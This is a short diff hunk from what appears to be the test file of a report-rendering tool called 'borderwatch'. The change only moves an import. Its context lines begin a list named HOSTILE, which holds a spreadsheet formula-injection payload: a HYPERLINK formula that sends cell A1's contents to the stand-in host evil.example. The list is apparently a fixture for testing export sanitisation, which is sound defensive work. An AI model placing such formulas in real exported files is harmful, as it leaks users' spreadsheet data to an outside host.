@@ -16,7 +16,7 @@ import pandas as pd
 
 from borderwatch.cli import main
 from borderwatch.reports.output import render
-from tests.conftest import base_config, write_config
+from tests.support.config import base_config, write_config
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"Pakistan Afghanistan talks")',
